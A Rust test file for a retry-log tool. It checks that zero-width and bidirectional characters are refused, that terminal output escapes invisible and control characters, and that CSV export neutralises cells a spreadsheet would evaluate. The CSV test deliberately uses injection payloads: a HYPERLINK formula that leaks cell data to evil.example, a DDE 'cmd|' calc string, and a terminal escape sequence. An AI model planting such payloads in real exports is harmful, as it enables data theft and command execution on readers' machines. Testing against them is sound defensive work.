//! What a reader's screen and spreadsheet receive (issue 21, finding 6): the one text rule
//! refuses bidirectional and zero-width characters in every field it covers (so a look-alike
//! scenario cannot become a trend group of its own), every table and line printed for people
//! shows such characters escaped, and CSV cells a spreadsheet would evaluate are neutralised.

use retrylog::error::CallerMistake;
use retrylog::store::AppendError;
use serde_json::{json, Value};
use sqlx::PgPool;

use crate::fixtures::*;

/// Characters that print as nothing or reorder the text around them: the zero-width ones
/// and a sample of the bidirectional marks, embeddings, overrides and isolates.
const INVISIBLE: [char; 9] = [
    '\u{200b}', '\u{200c}', '\u{200d}', '\u{2060}', '\u{feff}', '\u{202e}', '\u{2066}', '\u{061c}',
    '\u{200e}',
];

#[sqlx::test(migrations = false)]
async fn zero_width_and_bidi_characters_are_refused_in_every_covered_field_naming_it_and_the_code_point(
    pool: PgPool,
) {
    pipeline(&pool).await;
    let before = snapshot(&pool).await;
    for character in INVISIBLE {
        let code_point = format!("U+{:04X}", character as u32);
        let value = format!("fail{character}ed");
        for (field, argument) in [
            ("step", "step => $2"),
            ("actor", "actor => $2"),
            ("from_status", "from_status => $2"),
            ("to_status", "to_status => $2"),
            (
                "detail.scenario",
                "detail => jsonb_build_object('scenario', $2::text)",
            ),
        ] {
            let sql = format!(
                "SELECT seq FROM record_retry(job_id => $1, reason => 'failed', {argument})"
            );
            let error = sqlx::query(&sql)
                .bind(JOB_A)
                .bind(&value)
                .execute(&pool)
                .await
                .expect_err("the text rule refuses it");
            let (code, message) = database_error(&error);
            assert_eq!(code, "22023", "{field} {code_point}: {message}");
            assert!(
                message.starts_with(&format!("invalid {field}: \"fail\\u")),
                "{field} {code_point}: {message}"
            );
            assert!(
                message.contains(&format!("holds {code_point} (")),
                "{field} {code_point}: {message}"
            );
            assert!(
                !message.contains(character),
                "the message quotes the value escaped: {message:?}"
            );
            let classified = AppendError::from(error);
            assert!(
                matches!(classified, AppendError::InvalidInput(_)),
                "{classified:?}"
            );
        }
    }
    assert_eq!(
        snapshot(&pool).await,
        before,
        "a refused value wrote something"
    );
}

#[sqlx::test(migrations = false)]
async fn a_look_alike_scenario_is_refused_at_every_door_and_never_becomes_a_trend_group(
    pool: PgPool,
) {
    pipeline(&pool).await;
    let run = retrylog(
        &pool,
        &[
            "record",
            "--job-id",
            &JOB_B.to_string(),
            "--reason",
            "failed",
            "--detail",
            r#"{"scenario": "failed"}"#,
        ],
    )
    .await;
    assert_eq!(run.code, Some(0), "{run:#?}");
    let before = snapshot(&pool).await;

    // The CLI: exit 2, the field and the code point named, nothing raw on stderr.
    let run = retrylog(
        &pool,
        &[
            "record",
            "--job-id",
            &JOB_B.to_string(),
            "--reason",
            "failed",
            "--detail",
            "{\"scenario\": \"fail\u{200b}ed\"}",
        ],
    )
    .await;
    assert_eq!(run.code, Some(2), "{run:#?}");
    let line = run.only_problem_line();
    assert!(
        line.starts_with("retrylog: invalid detail.scenario: \"fail\\u200bed\" holds U+200B (a zero-width character) at character 5"),
        "{line}"
    );
    assert!(!run.stderr.contains('\u{200b}'), "{run:#?}");

    // The Rust door: the caller's mistake, with the same message.
    let error = append(
        &pool,
        &retry(job(JOB_B)).with_detail(json!({"scenario": "fail\u{2060}ed"})),
    )
    .await
    .expect_err("refused");
    assert!(error.is_caller_mistake(), "{error:?}");
    assert!(
        error
            .to_string()
            .starts_with("invalid detail.scenario: \"fail\\u2060ed\" holds U+2060"),
        "{error}"
    );
    assert_eq!(
        snapshot(&pool).await,
        before,
        "a refused append wrote something"
    );

    // One group, `failed`: the look-alike never reached the rollup.
    let run = retrylog(
        &pool,
        &[
            "report",
            "trend",
            "--since",
            "1d",
            "--by",
            "scenario",
            "--format",
            "json",
            "--non-empty",
        ],
    )
    .await;
    assert_eq!(run.code, Some(0), "{run:#?}");
    let groups: Vec<Value> = run
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|row| row["group"].clone())
        .collect();
    assert_eq!(groups, [json!("failed")]);
}

#[sqlx::test(migrations = false)]
async fn the_rust_twin_of_the_text_rule_refuses_exactly_the_characters_the_sql_rule_refuses(
    pool: PgPool,
) {
    migrated(&pool).await;
    // Every Unicode scalar value but NUL, which PostgreSQL's text cannot hold.
    let refused_by_sql: Vec<i32> = sqlx::query_scalar(
        "SELECT n FROM generate_series(1, 1114111) n
          WHERE n NOT BETWEEN 55296 AND 57343 AND chr(n) ~ retrylog_refused_characters()
          ORDER BY n",
    )
    .fetch_all(&pool)
    .await
    .unwrap();
    let refused_by_rust: Vec<i32> = (1..=0x10ffff_u32)
        .filter_map(char::from_u32)
        .filter(|c| retrylog::text::is_refused(*c))
        .map(|c| c as i32)
        .collect();
    assert_eq!(refused_by_rust, refused_by_sql);
}

/// Whether `text` holds a character the text rule refuses, other than the newlines that end
/// lines.
fn holds_raw(text: &str) -> bool {
    text.chars()
        .any(|c| c != '\n' && retrylog::text::is_refused(c))
}

#[sqlx::test(migrations = false)]
async fn tables_show_invisible_bidi_and_control_characters_escaped_and_json_keeps_them_exact(
    pool: PgPool,
) {
    pipeline(&pool).await;
    // The rule covers neither a detail's other keys nor the pipeline's own rows.
    let note = "paid\u{202e}dipnu\u{200b} \u{1b}[2J";
    append_ok(
        &pool,
        &retry(job(JOB_A)).with_detail(json!({ "note": note })),
    )
    .await;
    sqlx::query("UPDATE jobs SET current_step = 'seg\u{2066}ment\u{feff}' WHERE job_id = $1")
        .bind(JOB_A)
        .execute(&pool)
        .await
        .unwrap();

    let job_a = JOB_A.to_string();
    for args in [
        vec!["history", "--job-id", &job_a],
        vec!["--wide", "history", "--job-id", &job_a],
        vec!["report", "top-jobs"],
    ] {
        let run = retrylog(&pool, &args).await;
        assert_eq!(run.code, Some(0), "{args:?}: {run:#?}");
        assert!(
            !holds_raw(&run.stdout),
            "{args:?} printed raw: {}",
            run.stdout
        );
        assert!(!holds_raw(&run.stderr), "{args:?}: {run:#?}");
        let shown = if args.contains(&"top-jobs") {
            "seg\\u{2066}ment\\u{feff}"
        } else {
            "paid\\u{202e}dipnu\\u{200b}"
        };
        assert!(run.stdout.contains(shown), "{args:?}: {}", run.stdout);
    }

    // JSON is for machines: the exact value, escaped only as JSON itself requires.
    let run = retrylog(&pool, &["history", "--job-id", &job_a, "--format", "json"]).await;
    assert_eq!(run.code, Some(0), "{run:#?}");
    assert_eq!(run.json()[0]["detail"]["note"], note);
    let run = retrylog(&pool, &["report", "top-jobs", "--format", "json"]).await;
    assert_eq!(run.json()[0]["current_step"], "seg\u{2066}ment\u{feff}");
}

/// stdout of a `--format csv` run: the header's column names and the rows, as a spreadsheet
/// would split them.
fn csv_rows(run: &Run) -> (Vec<String>, Vec<Vec<String>>) {
    assert_eq!(run.code, Some(0), "{run:#?}");
    let mut reader = csv::Reader::from_reader(run.stdout.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_string)
        .collect();
    let rows = reader
        .records()
        .map(|record| record.unwrap().iter().map(str::to_string).collect())
        .collect();
    (header, rows)
}

/// What a spreadsheet evaluates: a cell beginning with one of these (OWASP).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[sqlx::test(migrations = false)]
async fn csv_neutralises_every_text_cell_a_spreadsheet_would_evaluate_and_keeps_numbers_numbers(
    pool: PgPool,
) {
    pipeline(&pool).await;
    let link = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"help\")";
    let mut hostile = retry(variant(JOB_A, VARIANT_A1))
        .with_step(link)
        .with_status_change("-3", "+1")
        .with_detail(json!({"scenario": "-2+3+cmd|' /C calc'!A0", "error": "=1+1"}));
    hostile.actor = "@SUM(1+1)".into();
    append_ok(&pool, &hostile).await;
    append_ok(
        &pool,
        &retry(variant(JOB_A, VARIANT_A1)).with_step("'quoted"),
    )
    .await;

    let (header, rows) = csv_rows(
        &retrylog(
            &pool,
            &[
                "history",
                "--variant-id",
                &VARIANT_A1.to_string(),
                "--format",
                "csv",
            ],
        )
        .await,
    );
    let cell = |row: &Vec<String>, column: &str| {
        row[header.iter().position(|name| name == column).unwrap()].clone()
    };
    let first = &rows[0];
    assert_eq!(cell(first, "step"), format!("'{link}"));
    assert_eq!(cell(first, "actor"), "'@SUM(1+1)");
    assert_eq!(cell(first, "from_status"), "'-3");
    assert_eq!(cell(first, "to_status"), "'+1");
    // detail is its JSON text: it begins with `{`, and its values are inside it.
    assert!(cell(first, "detail").starts_with('{'), "{first:?}");
    assert_eq!(cell(first, "attempt"), "1");
    assert_eq!(cell(&rows[1], "step"), "''quoted");
    // No cell is left that a spreadsheet would evaluate, except the numbers.
    for row in &rows {
        for (column, value) in header.iter().zip(row) {
            if value.starts_with(FORMULA_STARTS) {
                assert!(
                    value.parse::<f64>().is_ok(),
                    "{column} = {value:?} would be evaluated"
                );
            }
        }
    }

    // The reports' groups are text too.
    for args in [
        [
            "report", "trend", "--since", "1d", "--by", "step", "--format", "csv",
        ]
        .as_slice(),
        [
            "report", "outcomes", "--since", "1d", "--by", "scenario", "--format", "csv",
        ]
        .as_slice(),
    ] {
        let (header, rows) = csv_rows(&retrylog(&pool, args).await);
        let group = header.iter().position(|name| name == "group").unwrap();
        let groups: Vec<&str> = rows.iter().map(|row| row[group].as_str()).collect();
        let expected = if args.contains(&"step") {
            format!("'{link}")
        } else {
            "'-2+3+cmd|' /C calc'!A0".to_string()
        };
        assert!(groups.contains(&expected.as_str()), "{args:?}: {groups:?}");
        assert!(
            !groups.iter().any(|group| group.starts_with(FORMULA_STARTS)),
            "{args:?}: {groups:?}"
        );
    }

    // A pipeline's own row may hold a tab (or a carriage return): neutralised as well.
    append_ok(&pool, &retry(job(JOB_A))).await;
    sqlx::query("UPDATE jobs SET current_step = E'\\t=cmd' WHERE job_id = $1")
        .bind(JOB_A)
        .execute(&pool)
        .await
        .unwrap();
    let (header, rows) =
        csv_rows(&retrylog(&pool, &["report", "top-jobs", "--format", "csv"]).await);
    let job_a = rows
        .iter()
        .find(|row| row[0] == JOB_A.to_string())
        .expect("job A is listed");
    let cell = |column: &str| job_a[header.iter().position(|name| name == column).unwrap()].clone();
    assert_eq!(cell("current_step"), "'\t=cmd");

    // JSON keeps the exact values.
    let run = retrylog(
        &pool,
        &[
            "history",
            "--variant-id",
            &VARIANT_A1.to_string(),
            "--format",
            "json",
        ],
    )
    .await;
    assert_eq!(run.json()[0]["step"], link);
    assert_eq!(run.json()[0]["actor"], "@SUM(1+1)");
}
